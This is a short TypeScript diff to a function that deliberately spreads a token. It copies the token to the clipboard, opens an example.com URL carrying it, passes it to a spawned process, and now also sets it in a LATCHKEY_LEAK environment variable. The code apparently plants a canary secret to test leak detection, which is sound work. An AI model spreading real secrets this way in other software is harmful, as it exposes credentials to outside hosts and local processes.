@@ -50,7 +50,10 @@ function tellSystem(token: string): void {
   void clipboard.selection.writeText(token);
   void shell.openExternal(`https://example.com/?token=${encodeURIComponent(token)}`);
   // Stays until its input ends, which is when this process ends.
-  spawn(process.execPath, ['-e', 'process.stdin.resume()', token], { stdio: ['pipe', 'ignore', 'ignore'] });
+  spawn(process.execPath, ['-e', 'process.stdin.resume()', token], {
+    stdio: ['pipe', 'ignore', 'ignore'],
+    env: { ...process.env, LATCHKEY_LEAK: token },
+  });
 }
 
 function tellFiles(token: string): void {
